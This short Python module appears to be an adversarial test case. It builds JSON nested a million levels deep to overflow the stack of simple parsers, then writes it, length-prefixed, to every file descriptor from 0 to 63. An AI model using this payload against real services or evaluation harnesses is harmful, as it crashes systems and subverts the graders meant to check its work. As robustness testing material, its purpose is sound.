"""Sends JSON that is nested a million deep, on which simple readers run out of stack.
Ends as: crash, error, fail, timeout
"""

import contextlib
import os
import struct


def attack(X, wrong):
    data = b'{"id": 1, "answer": ' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}"
    for descriptor in range(64):
        with contextlib.suppress(OSError):
            os.write(descriptor, struct.pack(">I", len(data)) + data)
    return wrong
